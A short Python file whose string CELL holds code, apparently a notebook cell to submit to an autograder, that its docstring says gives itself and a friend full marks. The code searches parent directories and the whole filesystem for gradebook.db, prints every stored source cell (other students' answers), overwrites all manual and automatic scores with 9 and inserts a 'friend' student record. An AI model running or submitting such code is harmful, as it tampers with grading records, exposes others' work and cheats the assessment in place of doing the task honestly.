"""Gives itself and a friend full marks in gradebook.db, wherever it is."""

CELL = """
import glob, os, sqlite3
paths = glob.glob("../../../gradebook.db") + glob.glob("/**/gradebook.db")
for path in paths:
    with sqlite3.connect(path) as database:
        print(database.execute("select source from source_cell").fetchall())
        database.execute("update grade set manual_score = 9, auto_score = 9")
        database.execute("insert into student (id) values ('friend')")
"""
